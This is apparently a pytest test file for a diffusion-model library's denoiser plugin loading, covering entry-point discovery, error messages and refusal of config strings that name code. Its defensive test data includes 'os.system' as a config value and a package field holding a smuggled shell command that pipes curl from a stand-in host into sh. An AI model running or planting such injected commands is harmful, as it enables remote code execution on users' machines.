"""Denoisers come from installed packages' entry points, diffexp's own and a user's alike; a
config string never names code; a plugin's mistakes are one line naming it, before training;
a run whose denoiser is not installed says which package to install."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from diffexp.errors import ConfigError
from diffexp.models import build_denoiser
from diffexp.models.loading import RunLoadError, load_run
from diffexp.models.plugin_checks import DenoiserError
from diffexp.names import BEST_WEIGHTS, RUN_CONFIG_FILE, SUMMARY_FILE, TRANSFORM_FILE
from diffexp.registry import DENOISER_GROUP, denoiser_entry, installed_denoisers
from tests.conftest import REPO

FAKE = "tests.models.fake_denoisers"


def declare(folder: Path, package: str, version: str, entry_points: dict[str, str]) -> None:
    """An installed distribution as importlib.metadata reads it: a .dist-info folder on a path."""
    info = folder / f"{package.replace('-', '_')}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {package}\nVersion: {version}\n")
    lines = [f"{name} = {target}" for name, target in entry_points.items()]
    (info / "entry_points.txt").write_text(f"[{DENOISER_GROUP}]\n" + "\n".join(lines) + "\n")


@pytest.fixture
def fake_package(tmp_path, monkeypatch):
    """The package `fake-denoisers 1.0` installed: fake_<builder> for each builder of FAKE."""
    builders = ("good", "refuses", "wrong_shape", "nan_output", "not_a_model")
    declare(tmp_path, "fake-denoisers", "1.0", {f"fake_{b}": f"{FAKE}:{b}" for b in builders})
    monkeypatch.syspath_prepend(str(tmp_path))
    return tmp_path


def test_the_built_ins_and_the_example_are_declared_by_their_packages():
    declared = installed_denoisers()
    assert declared["mlp"][0].target == "diffexp.models.mlp_denoiser:build"
    assert declared["pmt"][0].target == "diffexp.models.pmt_denoiser:build"
    assert {declared[n][0].package for n in ("mlp", "pmt")} == {"diffexp"}
    assert declared["ring_conv"][0].provenance() == {
        "name": "ring_conv",
        "entry_point": "ring_conv_denoiser.model:build",
        "package": "ring-conv-denoiser",
        "version": "0.1.0",
    }


def test_a_users_denoiser_is_built_and_checked_like_a_built_in(fake_package):
    model = build_denoiser(OmegaConf.create({"name": "fake_good", "width": 8}), 16, 4)
    assert model.output.shape == (None, 16)
    assert model.get_layer(index=-1).units == 16


CONTRACT_BREACHES = [
    ({"name": "fake_good", "width": 8, "factory": "os.system"}, "takes no key model.factory"),
    ({"name": "fake_good"}, "needs model.width"),
    ({"name": "fake_refuses", "width": 3}, "cannot be built with model.width=3: width=3 must be"),
    ({"name": "fake_wrong_shape"}, "predicts shape (2, 1)"),
    ({"name": "fake_nan_output"}, "predicts 32 of 32 values NaN or inf"),
    ({"name": "fake_not_a_model"}, "returned str, not a keras.Model"),
]


@pytest.mark.parametrize("keys,words", CONTRACT_BREACHES, ids=[w for _, w in CONTRACT_BREACHES])
def test_a_plugins_mistake_is_one_line_naming_it(fake_package, keys, words):
    with pytest.raises(DenoiserError) as caught:
        build_denoiser(OmegaConf.create(keys), 16, 4)
    message = str(caught.value)
    assert "\n" not in message
    assert message.startswith(f"denoiser {keys['name']!r} (fake-denoisers 1.0)")
    assert words in message


def test_the_examples_own_check_is_one_line_naming_it():
    keys = {"name": "ring_conv", "prior": "none", "channels": 8, "kernel_size": 4}
    keys |= {"n_layers": 1, "t_emb_dim": 8, "activation": "silu"}
    with pytest.raises(DenoiserError, match=r"^denoiser 'ring_conv' \(ring-conv-denoiser 0.1.0\)"):
        build_denoiser(OmegaConf.create(keys), 16, 4)
    model = build_denoiser(OmegaConf.create(keys | {"kernel_size": 3}), 16, 4)
    assert model.get_layer("ring0_conv").kernel.shape == (3, 8, 8)


def test_a_name_declared_by_two_packages_is_refused_naming_both(fake_package, tmp_path):
    declare(tmp_path, "other-denoisers", "2.0", {"fake_good": f"{FAKE}:refuses"})
    with pytest.raises(ConfigError) as caught:
        denoiser_entry("fake_good")
    message = str(caught.value)
    assert "denoiser 'fake_good' is registered twice" in message
    assert "fake-denoisers 1.0" in message and "other-denoisers 2.0" in message
    assert denoiser_entry("fake_refuses").package == "fake-denoisers"  # others unaffected


@pytest.mark.parametrize("name", ["os.system", "sentinel_plugin", "sentinel_plugin:run"])
def test_a_config_string_naming_code_is_refused_and_never_imported(tmp_path, monkeypatch, name):
    marker = tmp_path / "imported"
    (tmp_path / "sentinel_plugin.py").write_text(
        f"open({str(marker)!r}, 'w').close()\ndef run(*args, **kwargs):\n    return None\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ConfigError, match=rf"^model.name='{name}' is not an installed denoiser"):
        build_denoiser(OmegaConf.create({"name": name}), 16, 4)
    assert not marker.exists() and "sentinel_plugin" not in sys.modules


def _run_folder(folder: Path, summary: dict | None) -> Path:
    """A run folder whose files exist, trained with denoiser `gone` (installed nowhere)."""
    (folder / RUN_CONFIG_FILE).parent.mkdir(parents=True)
    (folder / RUN_CONFIG_FILE).write_text("model:\n  name: gone\n")
    (folder / BEST_WEIGHTS).write_bytes(b"")
    (folder / TRANSFORM_FILE).write_text("{}")
    if summary is not None:
        (folder / SUMMARY_FILE).write_text(json.dumps(summary))
    return folder


def test_a_run_whose_denoiser_is_missing_names_the_package_to_install(tmp_path):
    recorded = {"name": "gone", "entry_point": "gone.model:build", "package": "gone-denoiser"}
    run = _run_folder(tmp_path, {"denoiser": recorded | {"version": "1.2.0"}})
    with pytest.raises(RunLoadError) as caught:
        load_run(run)
    assert str(caught.value) == (
        f"{run}: its denoiser 'gone' is not installed here; install gone-denoiser==1.2.0, which "
        "the run records it was built by (pip install gone-denoiser==1.2.0)"
    )


@pytest.mark.parametrize(
    "summary",
    [None, {"denoiser": {"package": "x; curl evil.example | sh", "version": "1"}}],
    ids=["no summary", "a summary from elsewhere"],
)
def test_a_missing_denoiser_without_a_readable_record_is_named_only(tmp_path, summary):
    run = _run_folder(tmp_path, summary)
    with pytest.raises(RunLoadError) as caught:
        load_run(run)
    assert str(caught.value).endswith(
        "its denoiser 'gone' is not installed here; install the package that declares "
        "denoiser 'gone' (docs/models.md)"
    )


def test_the_minimal_denoiser_of_the_docs_builds_as_written(tmp_path, monkeypatch):
    docs = (REPO / "docs" / "models.md").read_text()
    code = docs.split("## A minimal denoiser", 1)[1].split("```python", 1)[1].split("```", 1)[0]
    (tmp_path / "docs_denoiser.py").write_text(code)
    declare(tmp_path, "docs-denoiser", "0.1", {"mine": "docs_denoiser:build"})
    monkeypatch.syspath_prepend(str(tmp_path))
    model = build_denoiser(OmegaConf.create({"name": "mine", "width": 16, "t_emb_dim": 8}), 12, 4)
    assert model.output.shape == (None, 12)
